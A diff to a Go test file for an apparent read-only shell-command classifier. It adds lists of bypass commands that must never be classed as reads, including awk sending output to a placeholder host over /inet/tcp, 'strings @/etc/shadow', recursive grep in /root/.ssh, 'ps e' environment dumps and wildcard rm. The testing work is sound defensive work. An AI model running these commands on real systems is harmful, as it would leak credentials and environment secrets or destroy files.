@@ -73,6 +73,35 @@ var bypasses = []string{
 	"awk '/a/ / 2'", "awk '{print $1} # x'", "awk '{print \"\\\"\"}'", "awk '{print \"[\" > \"/tmp/p\"}'", "awk '{print $1}{system(1)}'", "awk '$1 ~ /[/ && /]/{system(1)}/'", "awk '1;{system(1)}'", "awk 'NR==1\n{system(1)}'",
 	"awk '{print $system(1)}'", "awk '{print NR (system(1))}'", "awk 'NR==1 || system(1)'", "awk '{getline}'", "awk '{print $1}' /inet/tcp/0/secret.example.com/80", "awk '{print}' /inet4/udp/0/x/53",
 	"sed 's/[/]/g;/w out/p' /etc/hosts", "sed '/[/]/w /tmp/p;/x/p' /etc/hosts", "sed -n '/[/p;w x/]/p' /etc/hosts", "sed 's/[a/]/e;s/]/b/' /etc/hosts",
+	// a wildcard that becomes two words where one was meant
+	"uniq /var/log/x/*.log", "base64 /var/log/x/*.log", "split /var/log/x/*", "sort -o /var/log/x/* /etc/hosts", "sort /var/log/x/a -o /var/log/x/*", "cmp /var/log/x/*", "diff /var/log/x/* /etc/hosts", "test -f /var/log/x/*",
+	"sed -i s/a/b/ /var/log/x/*", "grep -e /var/log/x/* /etc/hosts", "date -r /var/log/x/*", "dd if=/var/log/x/*", "cp /etc/hosts /var/log/x/*", "timeout 5 uniq /var/log/x/*.log", "rm /var/log/x/*", "tee /var/log/x/*",
+	// directories where files were meant
+	"grep -r x", "grep -rh ''", "egrep -r .", "fgrep -r x", "grep -R x | head", "grep -re x", "diff -N /nonexist /etc", "diff -N /nonexist /home/ann", "diff /etc/pam.d/passwd /etc", "diff /dev/null /root", "diff /home/ann /srv/x",
+	// ps reads words again as BSD's options when it does not understand them, and then e is the environment
+	"ps -auxewww", "ps -auxe", "ps -aue", "ps e", "ps auxe", "ps -ue", "ps -pe", "ps -Cxe", "ps -te", "ps -qe", "ps -oe", "ps -Oe", "ps -Ue", "ps -u x -e", "ps -e -u x", "ps -e -p 0", "ps -e -p 99999999999", "ps -e -O c", "ps -eO c",
+	"ps -ef -o args", "ps -eo args -f", "ps -eTH", "ps -eLH", "ps -ejf", "ps -ey", "ps -eM", "ps aux -e", "ps -u -e", "ps -e --sort=nosuch", "ps -eo nosuch", "ps -e -t x", "ps -e --user=x", "ps -e -C sshd", "ps -e --ppid x", "ps -u1e", "ps -o pid,environ",
+	// a time limit longer than any call, or none
+	"timeout 9999 ls", "timeout 1d ls", "timeout 10h ls", "timeout infinity ls", "timeout -k 9999 5 ls", "timeout -s CONT 5 rm /tmp/x",
+	// files of arguments, and name servers asked for what a word holds
+	"strings @/etc/shadow", "strings -t @/etc/shadow /usr/bin/env", "strings -n 4 @x", "cat @x", "ld @/tmp/x", "gcc @/tmp/x", "ar @/tmp/x", "nm @/tmp/x", "objdump @/tmp/x", "lsof -i @secret.example.com", "lsof -i@secret.example.com",
+	"lsof -iTCP@secret.example.com:80", "lsof -i 4tcp@secret.example.com", "lsof -nPi @x.y", "lsof -nPi@x.y", "lsof -i :80 -i @x.y", "lsof -nPi tcp@x.y", "systemctl show nginx -p ''",
+	// the environment of services
+	"systemctl show nginx", "systemctl show", "systemctl show nginx --no-pager", "systemctl show nginx --property=Environment", "systemctl show -p environment nginx", "systemctl show nginx -p EnvironmentFiles", "systemctl show nginx -p SetCredential", "systemctl cat nginx",
+	"cat /etc/systemd/system/app.service.d/override.conf", "systemctl show --value nginx", "grep -r Environment /etc/systemd",
+}
+
+// vectors are tricks that need a directory to start in, or words that no line of text can hold.
+var vectors = []map[string]any{
+	in("/root/.ssh", "grep", "-rh", ""), in("/root", "egrep", "-r", "."), in("/etc", "grep", "-r", "x"), in("/", "fgrep", "-r", "x"), in("/home/ann", "grep", "-re", "x"),
+	in("/srv", "strings", "@/etc/shadow"), in("/srv", "cat", "@x"), in("/srv", "lsof", "-i", "@secret.example.com"), in("/srv", "lsof", "-i", "tcp@secret.example.com"), in("/etc", "diff", "-N", "/nonexist", "."),
+	in("/root", "diff", "/nonexist", "x"), in("/", "awk", "{print}", "inet/tcp/0/x/80"),
+}
+
+func in(cwd string, words ...string) map[string]any {
+	a := argv(words...)
+	a["cwd"] = cwd
+	return a
 }
 
 // commonReads are what people do all day; each must run as a read.
@@ -81,11 +110,13 @@ var commonReads = []string{
 	"tail -n 50 /var/log/app/app.log | grep -i error", "grep -c ' 500 ' /var/log/nginx/access.log", "grep -rn 'listen 80' /etc/nginx", "grep -E 'a|b' /var/log/syslog", "grep -v '^#' /etc/ssh/sshd_config", "zgrep error /var/log/syslog.2.gz",
 	"find /var/log -name '*.log' -mtime -1", "find /srv -type f -size +100M -printf '%s %p\\n'", "find /etc -maxdepth 1 -newer /etc/hosts", "du -sh /var/log", "du -h --max-depth=1 /var | sort -h | tail -n 5", "df -h", "df -i /", "free -m", "uptime", "uname -a",
 	"ps aux", "ps -ef | grep nginx", "ps aux --sort=-%mem | head -n 10", "ps -p 1 -o pid,etime,cmd", "pgrep -a nginx", "who", "w", "last -n 10", "id", "id www-data", "whoami", "hostname", "hostname -I", "date", "date -u +%Y-%m-%dT%H:%M:%SZ", "ss -tlnp", "ss -s", "ip addr", "ip -br link",
-	"ip route", "netstat -tlnp", "systemctl status nginx", "systemctl is-active nginx", "systemctl list-units --failed", "systemctl list-timers --all --no-pager", "systemctl show nginx -p MainPID --value", "systemctl cat nginx", "journalctl -u nginx -n 100 --no-pager",
+	"ip route", "netstat -tlnp", "systemctl status nginx", "systemctl is-active nginx", "systemctl list-units --failed", "systemctl list-timers --all --no-pager", "systemctl show nginx -p MainPID --value", "systemctl show --property=ActiveState,SubState nginx", "journalctl -u nginx -n 100 --no-pager",
 	"journalctl -u nginx --since '1 hour ago' -p err", "journalctl -k -n 50", "journalctl -xeu nginx --no-pager", "dmesg -T | tail -n 20", "lsblk", "mount | grep ext4", "findmnt /", "lscpu", "nproc", "vmstat 1 3", "cat /proc/meminfo", "cat /proc/loadavg", "cat /proc/cpuinfo | grep 'model name' | sort | uniq -c",
 	"stat /etc/hosts", "wc -l /etc/passwd", "cut -d: -f1,7 /etc/passwd", "awk -F: '{print $1}' /etc/passwd", "awk '$9 == 500 {print $7}' /var/log/nginx/access.log | sort | uniq -c | sort -rn | head -n 5", "sed -n '10,20p' /etc/nginx/nginx.conf", "md5sum /usr/bin/env", "readlink -f /usr/bin/awk",
 	"which nginx", "test -f /etc/hosts && echo yes", "echo hello", "dpkg -l nginx", "dpkg -s openssh-server", "apt list --installed", "apt-cache policy nginx", "rpm -qa", "getent passwd root", "timedatectl", "hostnamectl", "sort -u /etc/hosts", "diff -u /etc/hosts /etc/hostname", "file /usr/bin/env",
 	"awk '/\\.php [0-9]+/ {print $1}' /var/log/nginx/access.log", "awk '$9 ~ /^[45]/ {print $7 \":\" $9}' /var/log/nginx/access.log", "awk 'NR==1 || !/^#/' /etc/fstab", "sed -n '/^[a-z]/p' /etc/hosts",
+	"ps -eo pid,ppid,user,%cpu,%mem,args --sort=-%cpu", "ps -efl", "ps -eLf", "ps -aux", "ps -auxww", "ps -efH", "ps -eo pid= -o comm=", "ps -fp 1", "ps -u www-data -o pid,cmd", "ps -C nginx -o pid,rss", "ps -ely", "ps -ejH",
+	"timeout 5m du -sh /srv", "timeout 30s ls", "lsof -nP -iTCP -sTCP:LISTEN", "lsof -i @127.0.0.1:80", "lsof -i tcp:22", "diff -r /srv/app/a /srv/app/b", "grep -h x /var/log/app/*.log", "strings -n 8 /usr/bin/env", "wc -l /var/log/app/*.log", "ls -l /var/log/*.gz",
 	"lsof -nP -iTCP", "lsof -i :80", "vmstat 1 2", "journalctl -b -1 -n 20", "cat /var/log/nginx/*.log", "tail -n 5 /var/log/app/*.log", "grep error /var/log/app.log 2>/dev/null", "cat /etc/hosts 2>&1", "sleep 2", "true", "cat < /etc/hosts", "nice -n 10 du -sh /srv", "timeout 10 find /srv -name x", "env", "tr a-z A-Z < /etc/hostname", "seq 1 10",
 }
 
@@ -94,6 +125,15 @@ func TestBypassesNeverRunAsARead(t *testing.T) {
 	for _, text := range bypasses {
 		if f, err := facts(t, h, map[string]any{"command": text}); err == nil && runsAsRead(f) {
 			t.Errorf("%q runs as a read: %+v", text, f)
+		}
+	}
+}
+
+func TestTricksWithADirectoryNeverRunAsARead(t *testing.T) {
+	h := open(t, offline)
+	for _, args := range vectors {
+		if f, err := facts(t, h, args); err == nil && runsAsRead(f) {
+			t.Errorf("%v runs as a read: %+v", args, f)
 		}
 	}
 }
@@ -122,6 +162,9 @@ func TestAwkProgramsAreWrittenAgain(t *testing.T) {
 		if again, _ := readAwk(got); err == nil && again != got {
 			t.Errorf("%q became %q", got, again)
 		}
+	}
+	if f, err := facts(t, open(t, offline), argv("timeout", "-k", "1", "5", "ls")); err != nil || !strings.Contains(f.Text, "[1] --foreground\n  [2] -k") {
+		t.Errorf("what runs is %v %v", f, err) // without it timeout leaves the process group that a cancelled call ends
 	}
 	f, err := facts(t, open(t, offline), argv("nice", "awk", "{print $1}", "/etc/hosts"))
 	if err != nil || !strings.Contains(f.Text, "[1] /usr/bin/awk\n  [2] { print $1 }\n") {
